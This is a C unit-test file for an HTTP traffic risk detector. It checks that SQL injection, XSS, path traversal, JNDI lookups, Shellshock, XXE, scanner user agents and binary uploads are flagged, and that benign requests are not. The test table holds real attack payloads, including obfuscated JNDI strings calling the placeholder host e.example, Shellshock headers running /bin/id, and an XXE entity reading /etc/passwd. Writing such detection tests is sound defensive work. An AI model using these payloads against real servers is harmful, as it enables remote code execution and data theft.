/* SPDX-License-Identifier: BSD-2-Clause */
/* Risks of HTTP where nDPI does not look: each is found in its forms, in requests and responses, and honest ones have none. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "dpi/risk.h"

#define EXPLOIT DPI_RISK_BIT(NDPI_POSSIBLE_EXPLOIT)
#define URL DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_URL)
#define AGENT DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_USER_AGENT)
#define SQL DPI_RISK_BIT(NDPI_URL_POSSIBLE_SQL_INJECTION)
#define XSS DPI_RISK_BIT(NDPI_URL_POSSIBLE_XSS)
#define PROGRAM DPI_RISK_BIT(NDPI_BINARY_APPLICATION_TRANSFER)
#define FORM "POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
#define POST "POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/xml\r\n\r\n"
#define OK "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n"

static struct magic_set *magic;

static int open_magic(void **state)
{
	struct dpi_err err;

	(void)state;
	return dpi_kinds_open(&magic, &err);
}

static int close_magic(void **state)
{
	(void)state;
	dpi_kinds_close(magic);
	return 0;
}

/* The risks of a text, from memory that ends where it ends. */
static uint64_t risks_of(const char *text, size_t len)
{
	uint8_t *p = malloc(len);

	assert_non_null(p);
	memcpy(p, text, len);
	uint64_t r = dpi_risks_http(magic, p, len);
	free(p);
	return r;
}

static void finds_attacks(void **state)
{
	static const struct { const char *text; uint64_t risk; } cases[] = {
		{ FORM "id=1%27+OR+%271%27%3D%271", SQL },
		{ FORM "page=2&id=1+UNION+SELECT+user,+password+FROM+users--", SQL },
		{ FORM "=&a&b=&id=1%27+OR+%271%27%3D%271", SQL },
		{ FORM "name=%3Cscript%3Ealert(1)%3C/script%3E&page=2", XSS },
		{ FORM "name=%zz%3Cscript%3Ealert(1)%3C/script%3E", XSS },
		{ "POST /a HTTP/1.1\r\ncontent-type: Application/X-WWW-Form-Urlencoded\r\n\r\nid=1%27+OR+%271%27%3D%271", SQL },
		{ "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a?f=..%2f..%2fetc HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a?f=%252e%252e%252fetc HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/%%32%65%%32%65/b HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/..%5c..%5cb HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/..%c0%afb HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /%2e%2e/", URL },
		{ "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${JNDI:dns://e.example/a", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${lower:j}ndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: }${a}${${env:X:-j}ndi${env:X:-:}rmi://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${lower:${upper:j}}ndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D HTTP/1.1\r\n\r\n", EXPLOIT },
		{ POST "{\"name\":\"${jndi:ldap://e.example/a}\"}", EXPLOIT },
		{ FORM "q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", EXPLOIT },
		{ "GET / HTTP/1.1\r\nHost: a\r\nuser-agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n", AGENT },
		{ "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v1.1.0", AGENT },
		{ "GET / HTTP/1.1\r\nReferer: () { :;}; /bin/id\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nCookie: a=() { :;}; /bin/id\r\n\r\n", EXPLOIT },
		{ POST "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", EXPLOIT },
		{ POST "<!DOCTYPE r [<!ENTITY\n% x PUBLIC \"a\" \"http://e.example/\">]>", EXPLOIT },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint64_t r = risks_of(cases[i].text, strlen(cases[i].text));
		if (r != cases[i].risk)
			print_error("%s: risks %#llx\n", cases[i].text, (unsigned long long)r);
		assert_int_equal(r, cases[i].risk);
	}
}

static void finds_programs(void **state)
{
	char text[4096];
	FILE *f = fopen("/proc/self/exe", "rb");
	char elf[512];

	(void)state;
	assert_non_null(f);
	assert_int_equal(fread(elf, 1, sizeof(elf), f), sizeof(elf));
	fclose(f);
	static const struct { const char *before; int found; } cases[] = {
		{ OK, 1 },
		{ "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n200\r\n", 1 },
		{ "POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
		  "Content-Disposition: form-data\r\n\r\n", 1 },
		{ "PUT /a HTTP/1.1\r\nHost: a\r\n\r\n", 1 },
		{ "HTTP/1.1 200 OK\r\n\r\nsee: ", 0 },
		{ "HTTP/1.1 200 OK\r\nA: ", 0 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t n = strlen(cases[i].before);
		memcpy(text, cases[i].before, n);
		memcpy(text + n, elf, sizeof(elf));
		assert_int_equal(risks_of(text, n + sizeof(elf)), cases[i].found ? PROGRAM : 0);
	}
}

static void lets_honest_ones_be(void **state)
{
	static const char *const clean[] = {
		"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a%20b/c..d/e?x=1%2E%2E5 HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a?q=wait%2E%2E%2E HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a?q=100%25 HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /price?c=%24%7Btotal%7D HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nX-Template: ${env:HOME}${a}\r\n\r\n",
		"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nReferer: https://nikto.example/\r\n\r\n",
		"GET / HTTP/1.1\r\nUser-Agent:\r\n\r\n", "GET / HTTP/1.1\r\nUser-Agent:",
		"GET / HTTP/1.1\r\nX-Code: f() { return 1 }\r\n\r\n",
		FORM "name=O%27Brien+%26+sons&note=it%27s+fine%2C+thanks",
		FORM "text=select+one+or+more+of+these&sum=1%2B1%3D2&when=5+o%27clock",
		FORM "text=wait%2E%2E%2E+and+see&path=..%2F..%2Fa",
		FORM, FORM "a", FORM "=", FORM "&&&", FORM "a=%", FORM "a=%4", FORM "a=%00",
		POST "<order><name>Anna</name></order>",
		POST "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/x.dtd\"><p/>",
		POST "<!DOCTYPE r [<!ENTITY x \"text\">]><r>&x;</r>",
		POST "<!ENTITY", POST "<!ENTITY ", POST "<!ENTITY % SYSTEM",
		OK "MZ is the name of a band", OK "\177ELFIN dances in the night", "HTTP/1.1 200 OK", "G", "GET ",
		"${", "}", "${}", "${${}",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		uint64_t r = risks_of(clean[i], strlen(clean[i]));
		if (r)
			print_error("%s: risks %#llx\n", clean[i], (unsigned long long)r);
		assert_int_equal(r, 0);
	}
}

/* What makes it work hardest stays far below the time after which an inspector counts as hung. */
static void is_bounded(void **state)
{
	enum { LEN = 61440 };
	static const char *const units[] = {
		"${", "${}", "${a:-", "}", "<!ENTITY a", "<!ENTITYaaaaaaaaaaaaaaaaaa ", "a='&", "() {", "%25", "..%2f",
		"\r\n\r\n", "\r\n\r\nMZ", "a=1' or '1", "chunke",
	};
	static const char *const heads[] = { FORM, POST, "GET /", "PUT / HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n" };
	char *text = malloc(LEN);

	(void)state;
	assert_non_null(text);
	for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++)
		for (size_t h = 0; h < sizeof(heads) / sizeof(heads[0]); h++) {
			struct timespec a, b;
			size_t n = strlen(heads[h]), unit = strlen(units[i]);
			memcpy(text, heads[h], n);
			for (; n < LEN; n++)
				text[n] = units[i][(n - strlen(heads[h])) % unit];
			clock_gettime(CLOCK_THREAD_CPUTIME_ID, &a);
			(void)risks_of(text, LEN);
			clock_gettime(CLOCK_THREAD_CPUTIME_ID, &b);
			double ms = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) / 1e6;
			if (ms >= 500)
				print_error("%s in %.12s...: %.1f ms\n", units[i], heads[h], ms);
			assert_true(ms < 500); /* a sanitizer's build too */
		}
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_attacks),
		cmocka_unit_test(finds_programs),
		cmocka_unit_test(lets_honest_ones_be),
		cmocka_unit_test(is_bounded),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, open_magic, close_magic);
}
